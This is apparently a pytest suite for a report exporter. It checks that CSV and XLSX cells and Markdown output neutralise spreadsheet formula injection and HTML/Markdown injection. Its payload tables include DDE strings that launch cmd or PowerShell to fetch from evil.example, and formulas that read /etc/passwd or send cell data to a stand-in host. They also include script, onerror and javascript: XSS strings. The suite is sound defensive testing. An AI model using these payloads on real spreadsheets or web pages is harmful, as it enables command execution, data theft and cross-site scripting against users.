"""Ways into a spreadsheet, ways into a page: each is tried on what we write, and shown to work where it stands bare.

A spreadsheet is imitated from what its makers document: it splits lines at whatever its country splits at, drops
blanks, takes full-width signs for plain ones where East Asian input is on, and runs what begins with = + - or @.
"""

from __future__ import annotations

import csv
import html
import io
import re
import unicodedata
import zipfile
from html.parser import HTMLParser

import cmarkgfm
import openpyxl
import pytest
from cmarkgfm.cmark import Options
from markdown_it import MarkdownIt

from factcheck.report.markdown import md
from factcheck.report.safe import one_line, safe
from factcheck.report.sheet import cell, csv_lines
from factcheck.report.workbook import xlsx

# ---------------------------------------------------------------------------------------------- spreadsheets

FORMULAS = {
    "sum": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(1,1)",
    "DDE of Excel": "=cmd|'/C calc'!A0",
    "DDE after plus": "+cmd|'/C calc'!A0",
    "DDE after minus": "-cmd|'/C calc'!A0",
    "DDE after at": "@cmd|'/C calc'!A0",
    "DDE of LibreOffice": '=DDE("soffice";"/etc/passwd";"A1")',
    "DDE with spaces": "= cmd|'/C powershell IEX(wget evil.example)'!A0",
    "MSEXCEL": "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''",
    "link": '=HYPERLINK("http://evil.example?"&A1,"click")',
    "web service": '=WEBSERVICE("http://evil.example/"&A1)',
    "picture": '=IMAGE("http://evil.example/x.png")',
    "import": '=IMPORTXML("http://evil.example","//a")',
    "other file": "='file:///etc/passwd'#$passwd.A1",
    "indirect": '=INDIRECT("A"&1)',
    "phone": "+44 20 7946 0000",
    "two signs": "-+1",
    "minus minus": "--1",
    "a minus and words": "-2+3+cmd|' /C calc'!D2",
    "array": "={1,2}",
    "long number": "-12345678901234567890+1",
    "tab first": "\t=1+1",
    "return first": "\r=1+1",
    "line feed first": "\n=1+1",
    "many blanks": "   \t =1+1",
    "no-break space": "\u00a0=1+1",
    "wide space": "\u3000=1+1",
    "zero width": "\u200b=1+1",
    "byte order mark": "\ufeff=1+1",
    "soft hyphen": "\u00ad=1+1",
    "right to left": "\u202e=1+1",
    "full-width equals": "＝1+1",
    "full-width plus": "＋1+1",
    "full-width minus": "－1+1",
    "full-width at": "＠SUM(1)",
    "small equals": "﹦1+1",
    "small plus": "﹢1+1",
    "blank and full-width": " ＝1+1",
    "semicolon": "killed;=1+1",
    "semicolon, blank": "killed; =1+1",
    "semicolon, quote": 'killed;"=1+1"',
    "semicolon, full-width": "killed;＋1+1",
    "bar": "killed|=1+1",
    "two of them": "a;b;@SUM(1)",
    "comma and quote": 'killed",=1+1,"',
    "line in the middle": "killed\n=1+1",
    "return in the middle": "killed\r=1+1",
    "Windows line": "killed\r\n-1+1",
    "tab in the middle": "killed\t=1+1",
    "quote first": '"=1+1',
}
NO_FORMULAS = ["-5", "-5.25", "1,037", "2;3", "5 - 3", "a=b", "e-mail@example.org", "7; 8", "'quoted'", "−5", "-0"]
SEPARATORS = (",", ";", "\t", "|", ",;", ",;\t")
NUMBER = re.compile(r"[-+]?\d{1,15}(\.\d{1,15})?")
DROPPED = re.compile(r'^[\s"\u00ad\u180e\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff]+')


def cells(text: str, separators: str) -> list[str]:
    """What a spreadsheet makes of the text of a file that splits at any of ``separators``."""
    found, current, quoted, at = [], "", False, 0
    while at < len(text):
        char = text[at]
        if quoted and char == '"' and text[at + 1 : at + 2] == '"':
            current, at = current + '"', at + 1
        elif char == '"' and (quoted or not current):
            quoted = not quoted
        elif not quoted and char in separators + "\r\n":
            found.append(current)
            current = ""
        else:
            current += char
        at += 1
    return [*found, current]


def is_run(shown: str) -> bool:
    """Whether a spreadsheet runs what stands in a cell; a number is a number."""
    if shown[:1] in "\t\r\n" and shown:
        return True
    bare = unicodedata.normalize("NFKC", DROPPED.sub("", shown[:50]))
    return bare[:1] in ("=", "+", "-", "@") and not NUMBER.fullmatch(bare)


def as_csv(text: str) -> str:
    return "".join(csv_lines(("id", "text", "last"), [{"id": "c1", "text": text, "last": "x"}]))


@pytest.mark.parametrize("name", FORMULAS)
def test_no_spreadsheet_runs_a_cell_of_csv(name: str) -> None:
    for separators in SEPARATORS:
        assert not [one for one in cells(as_csv(FORMULAS[name]), separators) if is_run(one)], separators


@pytest.mark.parametrize("name", FORMULAS)
def test_each_would_be_run_if_it_were_written_as_it_is(name: str) -> None:
    """A table of payloads that do nothing would prove nothing."""
    file = io.StringIO()
    csv.writer(file, lineterminator="\n").writerow(["c1", FORMULAS[name], "x"])
    naive = [file.getvalue(), f"c1,{FORMULAS[name]},x\n"]
    assert any(is_run(one) for text in naive for separators in SEPARATORS for one in cells(text, separators))


@pytest.mark.parametrize("name", FORMULAS)
def test_csv_gives_back_the_words(name: str) -> None:
    """All that is added is a mark before what would be run; what cannot stand in a cell is shown as an escape."""
    _, row = csv.reader(io.StringIO(as_csv(FORMULAS[name])))
    assert row[0::2] == ["c1", "x"]
    assert row[1].replace("'", "") == safe(FORMULAS[name]).replace("'", "")


@pytest.mark.parametrize("text", NO_FORMULAS)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    _, row = csv.reader(io.StringIO(as_csv(text)))
    assert row[1] == text


@pytest.mark.parametrize("number", [-5, -5.25, 1037.0, 0, -1e300])
def test_numbers_stay_numbers_in_csv_and_xlsx(number: float) -> None:
    assert float(cell(number)) == number
    book = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx("claims", ("n",), [{"n": number}]))))
    assert (book["claims"]["A2"].data_type, book["claims"]["A2"].value) == ("n", number)


def test_a_workbook_holds_no_formula_and_no_link() -> None:
    written = b"".join(xlsx("claims", ("text",), [{"text": text} for text in [*FORMULAS.values(), *NO_FORMULAS]]))
    with zipfile.ZipFile(io.BytesIO(written)) as parts:
        assert not [name for name in parts.namelist() if "externalLink" in name or "vba" in name]
        sheet = parts.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    assert "<f " not in sheet
    assert "hyperlink" not in sheet
    book = openpyxl.load_workbook(io.BytesIO(written))
    for text, (shown,) in zip([*FORMULAS.values(), *NO_FORMULAS], book["claims"].iter_rows(min_row=2), strict=True):
        assert (shown.data_type, shown.hyperlink, shown.value) == ("s", None, safe(text))
        assert shown.quotePrefix or not is_run(safe(text))


def test_there_are_as_many_as_promised() -> None:
    assert len(FORMULAS) >= 40
    assert len(MARKDOWN) >= 40


# ---------------------------------------------------------------------------------------------- Markdown

MARKDOWN = {
    "link": "[click](http://evil.example)",
    "link of code": "[click](javascript:alert(1))",
    "link in pointed brackets": "[click](<http://evil.example> 'x')",
    "link by reference": "[click][1]\n\n[1]: http://evil.example",
    "definition": "[click]: http://evil.example 'x'",
    "picture": "![x](http://evil.example/x.png)",
    "picture in a link": "[![x](http://evil.example/x.png)](http://evil.example)",
    "picture by reference": "![x][1]\n\n[1]: http://evil.example/x.png",
    "address in brackets": "<http://evil.example>",
    "mail in brackets": "<mail@evil.example>",
    "code in brackets": "<javascript:alert(1)>",
    "bare address": "see http://evil.example/x for more",
    "bare secure address": "https://evil.example",
    "bare ftp": "ftp://evil.example/x",
    "address in capitals": "HTTPS://EVIL.EXAMPLE",
    "www": "www.evil.example/x",
    "WWW": "WWW.EVIL.EXAMPLE",
    "after a bracket": "(www.evil.example)",
    "bare mail": "mail mail@evil.example now",
    "two mails": "a@evil.example,b.c+d@evil-two.example",
    "mailto": "mailto:mail@evil.example",
    "xmpp": "xmpp:mail@evil.example/x",
    "script": "<script>alert(1)</script>",
    "picture of HTML": "<img src=x onerror=alert(1)>",
    "link of HTML": "<a href='http://evil.example'>x</a>",
    "frame": "<iframe src='http://evil.example'></iframe>",
    "drawing": "<svg onload=alert(1)>",
    "style": "<style>@import 'http://evil.example'</style>",
    "end of a cell": "</td></tr></table><h1>x",
    "comment": "<!-- x -->",
    "processing": "<?php x ?>",
    "declaration": "<!DOCTYPE x>",
    "CDATA": "<![CDATA[x]]>",
    "entity": "&lt;script&gt; &#60;b&#62; &#x3c;",
    "heading": "# x",
    "underlined": "x\n===",
    "rule": "---",
    "quotation": "> x",
    "list": "- x",
    "numbered": "7. x",
    "task": "[ ] x",
    "fence": "```html\n<b>\n```",
    "tilde fence": "~~~\nx\n~~~",
    "code": "`x` ``y``",
    "indented": "\tx\n\n    y",
    "emphasis": "*a* _b_ **c** __d__ ***e***",
    "struck": "~~x~~ ~y~",
    "cells": "a | b | c",
    "escaped bracket": "\\[click](http://evil.example)",
    "escaped backslash": "\\\\[click](http://evil.example)",
    "footnote": "x[^1]\n\n[^1]: y",
    "mathematics": "$x$ $$y$$",
    "hard break": "x  \ny\\\nz",
    "mail in code": "`mail@evil.example`",
    "backslash and mail": "\\mail@evil.example\\",
    "bold mail": "**mail@evil.example**",
}
FRAMES = ["{}\n", "- {}\n", "> {}\n", "## {}\n", "**{}**\n", "| a |\n| --- |\n| {} |\n"]


class Tags(HTMLParser):
    """The tags of a page, and its words."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.words = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: object) -> None:
        self.tags.append(tag)

    def handle_data(self, data: str) -> None:
        self.words += data


def commonmark(text: str) -> Tags:
    return Tags(MarkdownIt("commonmark", {"html": True}).render(text))


def gfm(text: str) -> Tags:
    """As GitHub reads it, raw HTML shown as such."""
    return Tags(cmarkgfm.github_flavored_markdown_to_html(text, Options.CMARK_OPT_UNSAFE | Options.CMARK_OPT_FOOTNOTES))


@pytest.mark.parametrize("frame", FRAMES)
@pytest.mark.parametrize("name", MARKDOWN)
def test_no_reader_makes_anything_but_words_of_it(name: str, frame: str) -> None:
    for reader in (commonmark, gfm):
        plain, page = reader(frame.format("word")), reader(frame.format(md(MARKDOWN[name])))
        # code, in which addresses of mail stand, is words too
        assert [tag for tag in page.tags if tag != "code"] == plain.tags, reader
        assert html.unescape(one_line(MARKDOWN[name])) in html.unescape(page.words) or "&" in MARKDOWN[name], reader


@pytest.mark.parametrize("name", MARKDOWN)
def test_each_would_be_something_if_it_were_written_as_it_is(name: str) -> None:
    raw = MARKDOWN[name]
    same = all(
        reader(frame.format(raw)).tags == reader(frame.format("word")).tags
        and reader(frame.format(raw)).words.strip() == frame.format(raw).strip()
        for reader in (commonmark, gfm)
        for frame in FRAMES[:1]
    )
    assert not same or name in ("mathematics", "task", "cells", "escaped bracket", "definition", "WWW")


def test_entities_are_read_as_they_stand() -> None:
    for reader in (commonmark, gfm):
        assert reader(md("&lt;b&gt; &#60;")).words.strip() == "&lt;b&gt; &#60;"
